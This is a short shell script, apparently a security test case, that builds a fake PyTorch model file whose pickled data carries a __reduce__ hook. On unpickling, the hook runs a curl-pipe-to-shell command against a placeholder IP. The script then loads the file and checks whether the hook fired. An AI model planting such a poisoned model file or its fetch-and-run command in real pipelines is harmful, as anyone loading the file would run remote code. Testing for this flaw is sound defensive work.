#!/bin/sh
. /opt/case/case.sh

cat >/tmp/make.py <<'END'
import os, pickle, zipfile
class W:
    def __reduce__(self): return (os.system, ("curl -s http://203.0.113.10/payload.sh | sh",))
with zipfile.ZipFile("/srv/data/sentiment.pt", "w") as z: z.writestr("archive/data.pkl", pickle.dumps({"weights": [0.1] * 64, "hook": W()})); z.writestr("archive/version", "3")
END
python3 /tmp/make.py && rm /tmp/make.py /tmp/reached 2>/dev/null || true
printf 'import pickle, zipfile\nm = pickle.loads(zipfile.ZipFile("/srv/data/sentiment.pt").read("archive/data.pkl"))\nprint(len(m["weights"]))\n' >/srv/app/serve.py
python3 /srv/app/serve.py
test -e /tmp/reached
took_place
